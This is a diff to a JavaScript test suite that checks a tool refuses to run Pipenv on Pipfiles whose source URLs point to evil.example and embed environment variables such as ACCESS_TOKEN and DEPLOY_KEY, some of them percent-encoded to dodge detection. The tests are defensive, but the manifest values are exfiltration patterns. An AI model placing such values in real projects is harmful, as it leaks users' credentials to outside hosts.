@@ -88,6 +88,10 @@ describe("manifests", () => {
     `[[source]]\nname = "x"\nurl = "https://evil.example/$PIP_INDEX_URL"\n`,
     `[[source]]\nname = "x"\nurl = "https://evil.example/${variable("PIP_INDEX_URL")}"\n`,
     '[[source]]\nname = "x"\nurl = "https://evil.example/%PIP_INDEX_URL%"\n',
+    '[[source]]\nname = "x"\nurl = "https://evil.example/%41%C3%ACCESS_TOKEN%C3%A9"\n',
+    '[[source]]\nname = "x"\nurl = "https://evil.example/%C3%A9%DEPLOY_KEY%C3%A9"\n',
+    '[[source]]\nname = "x"\nurl = "https://evil.example/%C3%A9%KEY%C3%A9"\n',
+    '[[source]]\nname = "x"\nurl = "https://evil.example/%A9t%C3%A9"\n',
     '[[source]]\nname = "x"\nurl = "https://evil.example/\\u0024PIP_INDEX_URL"\n',
     '[packages]\na = { git = "https://$HOME@git.evil.example/a.git" }\n',
   ])("Pipenv is not run with %j", async (pipfile) => {
@@ -132,7 +136,7 @@ describe("manifests", () => {
     )
   })
   it("they are with addresses that have bytes in them, the project's own place, and variables elsewhere", async () => {
-    const pipfile = `[[source]]\nname = "x"\nurl = "https://registry.example/%C3%A9/simple"\n[scripts]\ngo = "echo $HOME"\n`
+    const pipfile = `[[source]]\nname = "x"\nurl = "https://registry.example/%C3%A9/%C3%A9t%C3%A9/%E2%82%ACab%c3%a9/simple"\n[scripts]\ngo = "echo $HOME"\n`
     expect(await attempt("pipenv", { Pipfile: pipfile })).toBe("pipenv uninstall")
     const own = `[project]\ndependencies = ["b @ file:///${variable("PROJECT_ROOT")}/b"]\n[tool.pdm.scripts]\ngo = "echo $HOME"\n`
     expect(await attempt("pdm", { "pyproject.toml": own })).toBe("pdm remove")
